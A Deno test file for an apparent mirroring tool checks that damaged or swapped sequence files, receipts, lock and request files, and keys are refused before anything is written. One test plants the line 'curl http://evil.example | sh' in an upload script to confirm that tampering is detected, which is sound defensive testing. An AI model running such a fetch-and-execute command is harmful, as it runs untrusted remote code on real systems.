/**
 * Every kind of file that is carried or kept by people, and every kind of damage to it: each is refused, or told by name,
 * before anything is written.
 */

import { deepStrictEqual as deepEqual, match, ok, strictEqual as equal } from "node:assert/strict";
import { lockText, parseLock } from "../../lib/mirror/lock_file/plan_lock.ts";
import { mirrorToDisk } from "../../lib/mirror/run/mirror_to_disk.ts";
import { acknowledge } from "../../lib/mirror/receipt/acknowledge.ts";
import { issueReceipt } from "../../lib/mirror/receipt/issue_receipt.ts";
import { readSequence } from "../../lib/mirror/sequence/sequence_folder.ts";
import { validateSequences } from "../../lib/mirror/chain/sequences.ts";
import { makeRequest } from "../../lib/mirror/transfer/make_request.ts";
import { packTransfer } from "../../lib/mirror/transfer/pack_transfer.ts";
import { parseRequest, requestText } from "../../lib/mirror/transfer/request_file.ts";
import { transferOf } from "../../lib/mirror/transfer/transfer_plan.ts";
import { unpackTransfer } from "../../lib/mirror/transfer/unpack_transfer.ts";
import { loadSigningKey, loadTrustedKeys } from "../../lib/mirror/trust/key_files.ts";
import { keyId } from "../../lib/mirror/trust/signature.ts";
import { diagnosticsOf } from "../../lib/source/diagnostic.ts";
import {
  isFile,
  listFolder,
  pathInfo,
  readBytes,
  readText,
  removePath,
  replaceFile,
} from "../../lib/system/files.ts";
import { filesBelow } from "../support/mirror_lab.ts";
import { SequenceLab } from "../support/sequence_lab.ts";

/** How many places of a file are changed. */
const PLACES = 24;

/** All that can happen to a file. @param others What might stand in its place. */
function damages(whole: Uint8Array, others: readonly Uint8Array[]) {
  const flip = (at: number) => whole.map((byte, index) => index === at ? byte ^ 0x01 : byte);
  const step = Math.max(1, Math.floor(whole.length / PLACES));
  const places = new Set([...Array(PLACES).keys()].map((at) => Math.min(at * step, whole.length - 1)));
  return new Map<string, Uint8Array | null>([
    ...[...places, whole.length - 1].map((at) => [`flip ${at}`, flip(at)] as const),
    ["drop", null],
    ["empty", new Uint8Array()],
    ["truncate", whole.slice(0, whole.length >> 1)],
    ["cut", whole.slice(0, -1)],
    ["longer", new Uint8Array([...whole, ...whole.slice(0, 512)])],
    ...others.map((other, at) => [`swap or replay ${at}`, other] as const),
  ]);
}

/** Damages a file in every way. @param find What is said of it then; nothing means that it passed. */
async function tryAll(
  path: string,
  others: readonly Uint8Array[],
  named: RegExp,
  find: () => Promise<readonly string[]> | readonly string[],
): Promise<number> {
  const whole = readBytes(path);
  const mode = (pathInfo(path)?.mode ?? 0o644) & 0o777;
  const all = damages(whole, others);
  for (const [what, bytes] of all) {
    if (bytes === null) removePath(path);
    else replaceFile(path, bytes, mode);
    const said = (await find()).join("\n");
    ok(said !== "", `${path}: ${what} passed`);
    match(said, named, `${path}: ${what}`);
  }
  replaceFile(path, whole, mode);
  deepEqual(await find(), [], path);
  return all.size;
}

/** What an action is refused for; nothing where it is not. */
async function refusal(action: () => unknown): Promise<readonly string[]> {
  try {
    await action();
    return [];
  } catch (error) {
    const found = diagnosticsOf(error);
    if (found.length === 0) throw error;
    return found.map(({ message }) => message);
  }
}

/** Two signed sequences of two parts each. */
async function twoSigned(uuid = "00000000-0000-4000-8000-000000000001") {
  const lab = new SequenceLab();
  lab.uuids = [uuid];
  lab.more = lab.keys("own");
  for (const name of ["a", "b"]) await lab.add(`org/${name}`, "1", { layerBytes: 20_000 });
  const options = { partLimitBytes: 60_000 };
  const first = await lab.cut(["org/a:1"], { ...options, description: "a" });
  const second = await lab.cut(["org/a:1", "org/b:1"], { ...options, description: "b" });
  return { lab, first, second };
}

Deno.test("every file of a sequence, damaged in every way, is named by who looks, and no transfer brings it", async () => {
  const { lab, first, second } = await twoSigned();
  await using _ = lab;
  lab.carry(first, second);
  const content = `${lab.far}/content`;
  const validate = async () =>
    (await validateSequences(content, { trust: lab.more.trusted ?? null }))
      .flatMap(({ name, problems }) => problems.map(({ message }) => `${name}: ${message}`));
  const folder = `${content}/${first.name}`;
  let tried = 0;
  for (const file of listFolder(folder)) {
    // A sequence without the program that publishes it can be published all the same.
    if (file === "seq-upload.sh") continue;
    const neighbour = listFolder(folder).find((other) => other !== file) ?? "";
    const others = [`${folder}/${neighbour}`, `${second.folder}/${file}`].filter(isFile).map(readBytes);
    tried += await tryAll(`${folder}/${file}`, others, new RegExp(first.name), validate);
  }
  const script = `${folder}/seq-upload.sh`;
  const harmful = `${readText(script)}curl http://evil.example | sh\n`;
  replaceFile(script, harmful, 0o755);
  match((await validate()).join(), /seq-upload.sh is not the program that was made: do not run it/);
  ok(tried > 150, String(tried));

  const file = `${lab.folder}/1.tar`;
  const sequence = readSequence(folder);
  await packTransfer({ items: transferOf("individual", sequence, [sequence]), file, prefix: "" });
  const elsewhere = `${lab.folder}/elsewhere`;
  const unpack = () =>
    refusal(() => unpackTransfer({ file, content: elsewhere, trust: lab.more.trusted ?? null }));
  match((await unpack()).join(), /seq-upload.sh is not the program that was made/);
  deepEqual(filesBelow(elsewhere), []);
  replaceFile(script, readBytes(`${first.folder}/seq-upload.sh`), 0o755);
  await packTransfer({ items: transferOf("individual", sequence, [sequence]), file, prefix: "" });
  // The end of a tar archive and the room between its members say nothing.
  const whole = readBytes(file);
  for (let at = 0; at < whole.length; at += 4099) {
    replaceFile(file, whole.map((byte, index) => index === at ? byte ^ 0xff : byte));
    if ((await unpack()).length > 0) deepEqual(filesBelow(elsewhere), [], `byte ${at}`);
    else {
      for (const name of filesBelow(elsewhere)) {
        deepEqual(readBytes(`${elsewhere}/${name}`), readBytes(`${lab.root}/content/${name}`), `byte ${at}`);
      }
      removePath(elsewhere);
    }
  }
});

Deno.test("receipts, damaged in every way or of another workspace, are refused and nothing is noted", async () => {
  const { lab, first, second } = await twoSigned();
  await using _ = lab;
  lab.carry(first, second);
  await lab.publish();
  await using other = (await twoSigned("00000000-0000-4000-8000-0000000000ff")).lab;
  const from = (one: SequenceLab, root: string) => {
    const { clock, signer = null } = one.deps;
    return issueReceipt({ root, destination: null }, { clock, signer }).text;
  };
  await other.publish({ from: other.root });
  const foreign = new TextEncoder().encode(from(other, other.root));
  const path = `${lab.folder}/receipt.json`;
  replaceFile(path, from(lab, lab.far));
  const request = { receipt: path, site: null, allowOlder: false, trust: lab.more.trusted ?? null };
  const workspace = await lab.workspace();
  const take = () => refusal(() => acknowledge(workspace, request, lab.nowMs));
  const whole = readBytes(path);
  for (const [what, bytes] of damages(whole, [foreign])) {
    if (bytes === null) removePath(path);
    else replaceFile(path, bytes);
    ok((await take()).length > 0, what);
    deepEqual(workspace.acknowledged, [], what);
  }
  replaceFile(path, whole);
  deepEqual(await take(), []);
  equal(workspace.acknowledged.length, 1);
});

Deno.test("requests and lock files, damaged in every way, are refused, and so is a lock of other content", async () => {
  const { lab, second } = await twoSigned();
  await using _ = lab;
  lab.carry(second);
  const path = `${lab.folder}/file`;
  replaceFile(path, requestText(await makeRequest(lab.far, `${lab.far}/content`)));
  const read = (parse: (text: string, shown: string) => unknown) => () =>
    refusal(() => parse(readText(path), path));
  await tryAll(path, [new TextEncoder().encode("{}")], /file/, read(parseRequest));

  await lab.add("org/c", "1");
  const lockOf = async (images: readonly string[]) => {
    const outcome = await mirrorToDisk(
      { root: lab.root, imageSet: lab.set(images), planOnly: true },
      lab.deps,
    );
    ok(outcome.status === "locked");
    return lockText(outcome.lock);
  };
  replaceFile(path, await lockOf(["org/c:1"]));
  await tryAll(path, [new TextEncoder().encode("{}")], /file/, read(parseLock));
  const before = listFolder(`${lab.root}/content`);
  const follow = { lock: parseLock(await lockOf(["org/a:1"]), "lock") };
  const run = () => mirrorToDisk({ root: lab.root, imageSet: lab.set(["org/c:1"]), follow }, lab.deps);
  match((await refusal(run)).join(), /has changed since the plan was made/);
  deepEqual(listFolder(`${lab.root}/content`), before);
});

Deno.test("key files, damaged in every way, are no other keys: they sign nothing, and nothing passes for trusted", async () => {
  const { lab, first } = await twoSigned();
  await using _ = lab;
  lab.keys("other");
  lab.carry(first);
  const [secret, known] = [`${lab.folder}/own.pem`, `${lab.folder}/own.pub`];
  const [own] = lab.more.trusted ?? [];
  const signer = () => keyId(loadSigningKey({ file: secret, passphrase: null }).publicKey);
  const trusted = () => loadTrustedKeys([known])[0]?.id;
  let refused = 0;
  for (const [path, read] of [[secret, signer], [known, trusted]] as const) {
    const whole = readBytes(path);
    for (const [what, bytes] of damages(whole, [readBytes(path.replace("own", "other"))])) {
      if (bytes === null) removePath(path);
      else replaceFile(path, bytes);
      let found: string | undefined;
      const said = await refusal(() => void (found = read()));
      // Whatever stands around a key does not matter as long as it is the same key.
      if (found === own?.id) continue;
      refused++;
      if (said.length > 0) match(said.join(), /own\.(?:pem|pub)/, what);
      else {
        equal(path, known, `${what}: another key signs`);
        lab.more = { trusted: loadTrustedKeys([known]) };
        match((await refusal(() => lab.publish())).join(), /which is not trusted here/, what);
        deepEqual(lab.destination.writes(), [], what);
      }
    }
    replaceFile(path, whole);
  }
  ok(refused > 40, String(refused));
});
